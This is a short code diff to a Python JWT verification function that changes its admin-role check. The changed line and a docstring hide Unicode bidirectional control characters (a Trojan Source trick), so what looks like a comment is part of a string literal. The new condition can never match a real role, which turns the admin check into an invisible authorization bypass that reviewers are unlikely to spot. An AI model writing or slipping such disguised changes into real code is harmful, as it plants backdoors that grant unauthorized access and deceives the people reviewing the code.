@@ -6,7 +6,7 @@ def verify(token, key, audience=None):
                         options={"verify_signature": True})
     role = claims.get("role", "user")
     """‮ ⁦"""
-    if role != "admin‮⁦# check admin⁩⁦":
+    if role == "user‮ ⁦# admins only⁩ ⁦":
         raise PermissionError("admin role required")
     return claims
 
